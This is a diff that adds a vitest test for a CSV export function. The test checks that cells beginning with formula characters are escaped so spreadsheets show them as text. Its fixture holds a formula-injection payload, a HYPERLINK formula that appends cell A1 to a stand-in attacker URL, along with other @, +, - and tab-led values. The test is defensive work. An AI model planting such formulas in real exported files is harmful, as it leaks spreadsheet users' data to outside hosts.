@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Template } from '../../../lib/model';
 import { DEFAULT_CSV_CATEGORY, deriveTemplateId, parseCsvPack, templatesToCsv } from '../../../lib/packs/pack-csv';
@@ -132,6 +133,33 @@ describe('templatesToCsv', () => {
     expect(csv.startsWith('\uFEFFid,title,body,tags,category,shortcut,note\r\n')).toBe(true);
     expect(csv).toContain("'=SUM(A1)"); // a spreadsheet shows it as text instead of running it
     expect(parse(csv).pack!.templates).toEqual(templates);
+  });
+
+  it('escapes a formula at the start of any cell, multi-line cells included (a spreadsheet would run it)', () => {
+    const attack: Template[] = [
+      {
+        id: 'attack',
+        title: '@SUM(1+1)*cmd',
+        body: '=HYPERLINK("https://evil.example/?"&A1,"Подробнее")\nСпасибо за ожидание.',
+        tags: ['+7 (495)'],
+        category: '-2+3',
+        note: '\t=1+1\nещё строка',
+      },
+    ];
+    const csv = templatesToCsv(attack, { bom: false });
+    const row = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data[1];
+    expect(row).toEqual([
+      'attack',
+      "'@SUM(1+1)*cmd",
+      `'=HYPERLINK("https://evil.example/?"&A1,"Подробнее")\nСпасибо за ожидание.`,
+      "'+7 (495)",
+      "'-2+3",
+      '',
+      "'\t=1+1\nещё строка",
+    ]);
+    for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Import trims cells, so the note's leading tab is the one thing that does not come back.
+    expect(parse(csv).pack!.templates).toEqual([{ ...attack[0], note: '=1+1\nещё строка' }]);
   });
 
   it('can leave out the byte-order mark', () => {
